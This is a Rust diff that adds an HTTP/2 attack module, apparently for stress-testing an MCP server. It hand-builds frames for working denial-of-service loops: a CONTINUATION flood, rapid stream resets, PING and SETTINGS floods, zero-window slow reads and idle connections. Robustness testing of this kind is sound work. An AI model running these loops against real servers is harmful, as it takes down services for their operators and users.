@@ -1,0 +1,133 @@
+//! Attacks over HTTP/2, frame by frame (RFC 9113).
+
+use std::{sync::Arc, time::Duration};
+
+use tests::{http::VERSION, request};
+use tokio::{net::TcpStream, time::sleep};
+
+use crate::target::{Target, closed, send};
+
+pub(crate) async fn idle(target: Arc<Target>, number: usize) {
+    loop {
+        let mut stream = connect(&target, number, &[]).await;
+        closed(&mut stream).await;
+        target.pause().await;
+    }
+}
+
+pub(crate) async fn continued(target: Arc<Target>, number: usize) {
+    let header = literal("x", &"x".repeat(100));
+    let more = frame(CONTINUATION, 0, 1, &header.repeat(150));
+    loop {
+        let mut stream = connect(&target, number, &[]).await;
+        send(&mut stream, frame(HEADERS, END_STREAM, 1, &post(&target, &[]))).await;
+        while send(&mut stream, &more).await {}
+        closed(&mut stream).await;
+    }
+}
+
+pub(crate) async fn resets(target: Arc<Target>, number: usize) {
+    let head = post(&target, &[]);
+    loop {
+        let mut stream = connect(&target, number, &[]).await;
+        for id in (1..).step_by(2) {
+            let mut frames = frame(HEADERS, END_HEADERS, id, &head);
+            frames.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
+            if !send(&mut stream, frames).await {
+                break;
+            }
+        }
+        closed(&mut stream).await;
+    }
+}
+
+/// Pings and settings, whose answers nobody reads.
+pub(crate) async fn pings(target: Arc<Target>, number: usize) {
+    let mut frames = frame(PING, 0, 0, &[0; 8]).repeat(50);
+    frames.extend(frame(SETTINGS, 0, 0, &[]).repeat(50));
+    loop {
+        let mut stream = connect(&target, number, &[]).await;
+        while send(&mut stream, &frames).await {}
+    }
+}
+
+/// Orders large replies, and has no window to take them.
+pub(crate) async fn unread(target: Arc<Target>, number: usize) {
+    let body = request("tools/call", serde_json::json!({ "name": "large", "arguments": {} }));
+    let body = body.to_string();
+    let head = post(
+        &target,
+        &[
+            ("content-type", "application/json"),
+            ("accept", "application/json, text/event-stream"),
+            ("mcp-protocol-version", VERSION),
+            ("mcp-method", "tools/call"),
+            ("mcp-name", "large"),
+        ],
+    );
+    // SETTINGS_INITIAL_WINDOW_SIZE
+    let no_window = [0, 4, 0, 0, 0, 0];
+    loop {
+        let mut stream = connect(&target, number, &no_window).await;
+        for id in (1..200).step_by(2) {
+            let mut frames = frame(HEADERS, END_HEADERS, id, &head);
+            frames.extend(frame(DATA, END_STREAM, id, body.as_bytes()));
+            if !send(&mut stream, frames).await {
+                break;
+            }
+            sleep(Duration::from_millis(20)).await;
+        }
+        closed(&mut stream).await;
+        target.pause().await;
+    }
+}
+
+pub(crate) async fn connect(target: &Target, number: usize, settings: &[u8]) -> TcpStream {
+    let mut stream = target.connect(number).await;
+    send(&mut stream, preface(settings)).await;
+    stream
+}
+
+pub(crate) fn preface(settings: &[u8]) -> Vec<u8> {
+    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    bytes.extend(frame(SETTINGS, 0, 0, settings));
+    bytes
+}
+
+fn post(target: &Target, headers: &[(&str, &str)]) -> Vec<u8> {
+    // `:method: POST` and `:scheme: http` of the static table, and names of it (RFC 7541, appendix A).
+    let mut block = vec![0x83, 0x86];
+    for (name, value) in [(4, "/mcp"), (1, &*target.address.to_string())] {
+        block.extend([name, value.len() as u8]);
+        block.extend(value.bytes());
+    }
+    headers.iter().for_each(|(name, value)| block.extend(literal(name, value)));
+    block
+}
+
+/// A header that is not remembered (RFC 7541, section 6.2.2), both parts shorter than 127 bytes.
+fn literal(name: &str, value: &str) -> Vec<u8> {
+    let mut bytes = vec![0];
+    for text in [name, value] {
+        bytes.push(text.len() as u8);
+        bytes.extend(text.bytes());
+    }
+    bytes
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
+    bytes.extend([kind, flags]);
+    bytes.extend(stream.to_be_bytes());
+    bytes.extend(payload);
+    bytes
+}
+
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const CONTINUATION: u8 = 9;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
